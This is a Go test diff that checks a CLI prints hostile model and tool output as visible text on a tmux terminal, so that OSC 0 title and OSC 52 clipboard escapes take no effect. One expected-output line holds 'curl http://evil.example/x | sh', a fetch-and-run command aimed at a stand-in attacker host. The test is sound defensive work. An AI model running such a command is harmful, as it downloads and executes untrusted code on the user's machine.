@@ -163,6 +163,44 @@ func (r *ptyRun) interrupt() string {
 	return r.wait()
 }
 
+// tmuxScreen runs the starter in a tmux pane (a terminal emulator: it
+// acts on what reaches it), waits for want on the screen, and returns the
+// screen, the pane's title and tmux's paste buffers. tmux takes OSC 0 as
+// the pane's title and, with set-clipboard on, OSC 52 as a buffer: a
+// sequence that got through would show there.
+func (e *env) tmuxScreen(want string, args ...string) (screen, title, buffers string) {
+	t := e.t
+	t.Helper()
+	conf := filepath.Join(t.TempDir(), "tmux.conf")
+	require.NoError(t, os.WriteFile(conf, []byte("set -g set-clipboard on\nset -g history-limit 50000\n"), 0o644))
+	sock := "longrun-e2e-" + randHex(6)
+	tmux := func(args ...string) string {
+		out, err := exec.Command("tmux", append([]string{"-L", sock, "-f", conf}, args...)...).CombinedOutput()
+		require.NoError(t, err, "tmux %v: %s", args, out)
+		return string(out)
+	}
+	line := []string{"env", "TEMPORAL_ADDRESS=" + temporalAddr, "LONGRUN_TASK_QUEUE=" + e.taskQueue, "TERM=tmux-256color", filepath.Join(binDir, "starter")}
+	var cmd strings.Builder
+	for _, a := range append(line, args...) {
+		cmd.WriteString("'" + strings.ReplaceAll(a, "'", `'\''`) + "' ")
+	}
+	cmd.WriteString("; sleep 60")
+	tmux("new-session", "-d", "-x", "200", "-y", "50", cmd.String())
+	defer exec.Command("tmux", "-L", sock, "kill-server").Run() //nolint:errcheck // our own server, gone with the test
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		screen = tmux("capture-pane", "-p", "-J", "-S", "-")
+		if strings.Contains(screen, want) {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("tmux never showed %q; it shows:\n%s", want, screen)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	return screen, strings.TrimSpace(tmux("display-message", "-p", "#{pane_title}")), tmux("list-buffers")
+}
+
 func jsonObject(t *testing.T, v map[string]string) string {
 	b, err := json.Marshal(v)
 	require.NoError(t, err)
@@ -273,6 +311,19 @@ func TestTerminalShowsHostileTextVisibly(t *testing.T) {
 	check("conversation --full", out, shownArgs+"⟨21,000 spaces⟩"+tail, "TOOL-OUTPUT "+shownOut)
 	out = e.pty("show", "--full", "--messages", "20", id)
 	check("show --full", out, "TOOL-OUTPUT "+shownOut, shownID)
+
+	// The same on a terminal emulator: the screen shows each sequence as
+	// text, and neither the title nor the clipboard changed.
+	if _, err := exec.LookPath("tmux"); err != nil {
+		t.Logf("SKIPPED LOUDLY: tmux is not installed, so the screen is checked by its bytes only: %v", err)
+	} else {
+		screen, title, buffers := e.tmuxScreen("FINAL-TEXT", "show", "--full", "--messages", "20", id)
+		commands++
+		require.Contains(t, screen, "MODEL-TEXT "+shownText)
+		require.Contains(t, screen, shownArgs+"⟨21,000 spaces⟩"+tail)
+		require.NotContains(t, title, "pwned-title", "OSC 0 did not set the title")
+		require.Empty(t, buffers, "OSC 52 did not write the clipboard")
+	}
 
 	out = e.pty("diff", id)
 	check("diff", out, "+curl http://evil.example/x | sh #"+shownFile)
